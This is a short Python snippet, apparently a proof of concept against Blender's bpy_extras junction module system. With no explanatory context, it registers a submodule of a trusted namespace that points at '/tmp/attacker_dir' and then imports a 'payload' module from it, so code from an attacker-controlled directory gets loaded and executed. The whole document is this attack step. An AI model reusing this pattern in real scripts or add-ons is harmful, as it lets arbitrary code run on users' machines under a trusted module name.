from bpy_extras.extensions import junction_module
h = junction_module.JunctionModuleHandle("bpy_extras.jz")
h.register_module()
h.register_submodule("d", "/tmp/attacker_dir")
import bpy_extras.jz.d.payload
